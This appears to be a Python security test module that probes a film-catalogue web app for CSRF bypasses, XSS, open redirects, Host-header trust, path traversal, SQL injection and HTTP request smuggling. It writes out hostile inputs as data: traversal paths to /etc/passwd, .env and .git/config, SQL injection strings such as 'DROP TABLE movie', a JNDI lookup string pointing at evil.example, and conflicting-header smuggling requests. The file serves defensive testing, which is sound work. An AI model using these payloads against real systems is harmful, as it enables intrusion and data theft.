"""Requests that somebody else made up: forged, foreign, or with something in them that could be
taken for more than text."""

import socket
from collections.abc import Iterator
from urllib.parse import quote

import requests

from tools.proofs.attacked_site import FIRST_ID, HELPER, NAME, PAYLOADS, Site, token

START = "/admin/importer/importrun/start/"
RUNS = "SELECT count(*) FROM import_run"
EVIL = "https://evil.example"
OUTSIDE = (
    "/static/../manage.py", "/static/%2e%2e/manage.py", "/static/..%2f.env", "/static//etc/passwd",
    "/.env", "/.git/config", "/manage.py", "/settings/__init__.py", "/static/%00",
    "/var/secret_key",
)  # fmt: skip
INJECTIONS = (
    "' OR 1=1 --", "1; DROP TABLE movie", "\x00", "%27%22", "${jndi:ldap://evil.example}",
    "../../", "\ud7ff" * 50, "a" * 5000, "(" * 300, "%" * 100, "_" * 100, "\\" * 100,
)  # fmt: skip

VALUES = (
    "/api/v1/search/?name=", "/search/?name=", "/api/v1/best/?limit=", "/api/v1/best/FR/?page=",
    "/api/v1/people/?name=", "/countries/?by=",
)  # fmt: skip


def imports_without_leave(site: Site) -> Iterator[str]:
    """an import is started by GET, by nobody, without a CSRF token, without the permission"""
    before = site.query(RUNS)
    operator, helper = site.session(NAME), site.session(HELPER)
    form = {"kind": "daily"}
    answers = {
        "by GET": operator.get(site.url + START, params=form, timeout=60, allow_redirects=False),
        "by nobody": site.post(START, data=form),
        "without a token": operator.post(site.url + START, form, timeout=60),
        "with a token of chance": operator.post(
            site.url + START, {**form, "csrfmiddlewaretoken": "x" * 64}, timeout=60
        ),
        "without the permission": helper.post(
            site.url + START,
            {**form, "csrfmiddlewaretoken": token(helper)},
            timeout=60,
            allow_redirects=False,
        ),
    }
    for how, answer in answers.items():
        if answer.status_code not in {302, 403, 405}:
            yield f"{how}: {answer.status_code}"
    if site.query(RUNS) != before:
        yield "a run was queued"


def markup_in_names(site: Site) -> Iterator[str]:
    """19 payloads in titles, in what is searched for and in a file's cells come back as text"""
    session = site.session(NAME)
    for number, payload in enumerate(PAYLOADS, 1):
        paths = (
            f"/films/{FIRST_ID + number}/",
            f"/admin/movies/movie/{FIRST_ID + number}/change/",
        )
        pages = [session.get(site.url + path, timeout=60) for path in paths]
        pages += [site.get("/search/", params={"name": name}) for name in (payload, "alert")]
        for page in pages:
            if page.status_code >= 500 or is_markup(payload, page):
                yield f"{page.url}: {payload}"
        answer = site.get("/api/v1/search/", params={"name": payload})
        cell = payload.replace('"', '""')
        upload = site.post(
            "/api/v1/watched/",
            data=f'Const,Your Rating,Title,Year\n,8,"{cell}",1999\n'.encode(),
            headers={"Content-Type": "text/csv", "X-Forwarded-For": "192.0.2.1"},
        )
        for response in (answer, upload):
            if response.headers["Content-Type"].partition(";")[0] != "application/json":
                yield f"{response.url} is no JSON"
            if response.headers.get("X-Content-Type-Options") != "nosniff":
                yield f"{response.url} may be sniffed"
            if response.status_code >= 500:
                yield f"{response.url}: {response.status_code}"


def is_markup(payload: str, page: requests.Response) -> bool:
    return ("<" in payload and payload in page.text) or "49{%" in page.text


def foreign_redirects(site: Site) -> Iterator[str]:
    """redirects that lead to another site"""
    operator = site.session(NAME)
    for next_ in (
        EVIL,
        "//evil.example",
        "/\\evil.example",
        "https:evil.example",
        "\t//evil.example",
    ):
        answer = operator.get(
            f"{site.url}/admin/login/", params={"next": next_}, timeout=60, allow_redirects=False
        )
        location = answer.headers.get("Location", "")
        if "evil.example" in location.partition("?")[0]:
            yield f"next={next_} leads to {location}"
    for path in (
        "//evil.example/..",
        "/%2f%2fevil.example",
        "/\\evil.example",
        "/films//evil.example",
    ):
        location = site.get(path).headers.get("Location", "")
        if location.startswith(("//", "http", "/\\")):
            yield f"{path} leads to {location}"


def foreign_hosts(site: Site) -> Iterator[str]:
    """Host, X-Forwarded-Host, Origin and frames of other sites"""
    for path in ("/", "/admin/login/", "/api/v1/genres/"):
        if site.get(path, headers={"Host": "evil.example"}).status_code != 400:
            yield f"{path} is answered for another host"
        if "evil.example" in site.get(path, headers={"X-Forwarded-Host": "evil.example"}).text:
            yield f"{path} believes X-Forwarded-Host"
    answer = site.get("/api/v1/genres/", headers={"Origin": EVIL})
    if "Access-Control-Allow-Origin" in answer.headers:
        yield "the API lets another origin read"
    missing = {
        "X-Frame-Options",
        "Content-Security-Policy",
        "Permissions-Policy",
        "Referrer-Policy",
        "X-Content-Type-Options",
    } - site.get("/").headers.keys()
    if missing:
        yield f"/ has no {', '.join(sorted(missing))}"


def files_outside(site: Site) -> Iterator[str]:
    """files that are none of the site's"""
    for path in OUTSIDE:
        status = raw(site, f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        if status not in {"301", "302", "400", "404"}:
            yield f"{path}: {status}"


def odd_values(site: Site) -> Iterator[str]:
    """SQL and other signs in every place for a value"""
    for value in INJECTIONS:
        for path in VALUES:
            status = site.get(path + quote(value, safe="%")).status_code
            if status >= 500:
                yield f"{path}{value[:40]!r}: {status}"


def odd_messages(site: Site) -> Iterator[str]:
    """requests that two servers in a row could read in two ways"""
    both = "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n"
    for head in (
        f"POST /api/v1/watched/ HTTP/1.1\r\nHost: localhost\r\n{both}\r\n0\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding : chunked\r\n\r\n",
        "TRACE / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
    ):
        if (status := raw(site, head)) in {"200", "500"}:
            yield f"{head[:60]!r}: {status}"


def raw(site: Site, request: str) -> str:
    """The status of the answer to these very bytes; empty where there is none."""
    with socket.create_connection((site.host, site.port), timeout=30) as connection:
        connection.sendall(request.encode())
        words = connection.recv(4096).split(b" ", 2)
    return words[1].decode() if len(words) > 1 else ""


def addresses_made_up(site: Site) -> Iterator[str]:
    """another X-Forwarded-For with each request does not evade the limit"""
    codes = [
        site.post(
            "/api/v1/watched/",
            data=b"x",
            headers={"Content-Type": "text/csv", "X-Forwarded-For": f"198.51.100.{number}"},
        ).status_code
        for number in range(60)
    ]
    if 429 not in codes:
        yield "60 uploads at once were taken"
